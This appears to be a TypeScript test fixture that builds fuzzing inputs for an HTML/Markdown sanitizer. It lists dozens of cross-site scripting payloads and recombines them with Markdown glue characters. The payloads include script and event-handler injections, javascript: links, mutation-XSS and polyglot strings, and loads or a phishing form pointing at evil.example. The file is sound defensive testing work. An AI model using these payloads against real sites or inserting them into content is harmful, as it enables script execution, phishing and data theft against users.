/** Words that try to become more than words: markup, scripts, links and forms, alone, inside Markdown and broken by it. */
import { readFileSync } from "node:fs";
import fc from "fast-check";
import { z } from "zod";

/** Each would call `pwned` or fetch from `evil.example` if it were ever more than text. */
export const attacks = [
  "<script>pwned()</script>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=pwned()>",
  "<img src=https://evil.example/pixel.png>",
  "<svg/onload=pwned()>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()>#x'/></svg>",
  "<math><mtext></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=https://evil.example></object>",
  "<embed src=https://evil.example>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example/y)}</style>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<form action=https://evil.example><button>Sign in</button></form>",
  "<input autofocus onfocus=pwned()>",
  "<details open ontoggle=pwned()>",
  "<video src=https://evil.example/v.mp4 autoplay onloadstart=pwned()>",
  "<a href=javascript:pwned()>here</a>",
  "<template shadowrootmode=open><script>pwned()</script></template>",
  "<edgedesk-widget data-desk=https://evil.example></edgedesk-widget>",
  "[here](javascript:pwned())",
  "[here](JaVaScRiPt:pwned())",
  "[here](java\tscript:pwned())",
  "[here](&#106;avascript:pwned())",
  "[here](javascript&colon;pwned())",
  "[here](\u0001javascript:pwned())",
  "[here](data:text/html,<script>pwned()</script>)",
  "[here](vbscript:pwned())",
  "[here](blob:https://evil.example/1)",
  "[here](file:///etc/passwd)",
  "[here](//evil.example)",
  "[here](/\\evil.example)",
  "[here](http://evil.example)",
  "[here](https://desk.example@evil.example)",
  '[here](https://evil.example/"onmouseover="pwned())',
  "[here](https://evil.example 'x\" onclick=\"pwned()')",
  "[here](article:../../v1/tickets)",
  '[here](article:x"onclick=pwned())',
  "[here](article:javascript:pwned())",
  "![pixel](https://evil.example/pixel.png)",
  '![x](x" onerror="pwned())',
  "[![x](https://evil.example/p.png)](javascript:pwned())",
  "[here][1]\n\n[1]: javascript:pwned()",
  "<javascript:pwned()>",
  '<https://evil.example/"onclick=pwned()>',
  "`<img src=x onerror=pwned()>`",
  "```html\n<script>pwned()</script>\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |",
  "> <script>pwned()</script>\n> - [x](javascript:pwned())",
  "# <img src=x onerror=pwned()> {#x onclick=pwned()}",
  "[1] [999999] [__proto__] [constructor]",
  "&lt;script&gt;pwned()&lt;/script&gt;",
  "\\<script>pwned()\\</script>",
  "<scr\u0000ipt>pwned()</scr\u0000ipt>",
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+pwned()//'>",
  "\u202egpj.exe\u2066 <b onclick=pwned()>",
  "--><!-- --!> <!--<img src=--><img src=x onerror=pwned()//>",
  "<![CDATA[<script>pwned()</script>]]>",
];

const glue = [
  "",
  " ",
  "\n",
  "\n\n",
  "**",
  "*",
  "`",
  "```\n",
  "[",
  "](",
  ")",
  "> ",
  "- ",
  "1. ",
  "# ",
  "|",
  "|---|\n",
  "\\",
  "\u200b",
  "&#x3c;",
  "<",
  ">",
  '"',
  "'",
];

const piece = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...attacks) },
  { weight: 4, arbitrary: fc.constantFrom(...glue) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  // A part of an attack, so that what stands around it completes another.
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(...attacks), fc.nat(40), fc.nat(40)).map(([attack, from, to]) => attack.slice(from, from + to)),
  },
);

/** A JSON list of strings of somebody else's, which HOSTILE_STRINGS names; they stand in the place of as many of ours. */
export const readForeign = (path: string | undefined): string[] =>
  path === undefined
    ? []
    : z
        .array(z.string())
        .parse(JSON.parse(readFileSync(path, "utf8")))
        .map((text) => text.toWellFormed());

/** `count` of them, always the same ones; the first are the attacks by themselves, then those of `foreign`. */
export function hostileWords(count: number, foreign: readonly string[] = []): string[] {
  const mixed = fc.array(piece, { minLength: 1, maxLength: 7 }).map((pieces) => pieces.join("").toWellFormed());
  return [...attacks, ...foreign, ...fc.sample(mixed, { seed: 20261030, numRuns: count - attacks.length - foreign.length })];
}
